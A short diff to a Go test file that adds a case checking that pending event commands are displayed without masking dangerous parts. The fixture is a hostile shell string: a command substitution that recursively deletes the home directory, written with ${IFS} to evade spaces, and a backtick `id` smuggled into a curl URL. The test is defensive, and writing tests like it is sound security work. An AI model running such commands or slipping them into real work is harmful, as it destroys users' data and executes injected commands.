@@ -183,6 +183,10 @@ func TestGrantsAreShownClean(t *testing.T) {
 			t.Errorf("%q", s)
 		}
 	}
+	c, _, _ = team(t, `changes: [{kind: events, command: [sh, -c, "x token=$(rm${IFS}-rf${IFS}~) curl https://a`+"`id`"+`@b"]}]`, nil)
+	if s := strings.Join(c.Pending()[0].Shown(), " "); !strings.Contains(s, "$(rm${IFS}-rf") || !strings.Contains(s, "`id`") {
+		t.Errorf("a mask hides what would run: %s", s)
+	}
 	if len(g.Shown()) != 4 || !strings.Contains(g.Shown()[2], "rm") {
 		t.Errorf("%q", g.Shown())
 	}
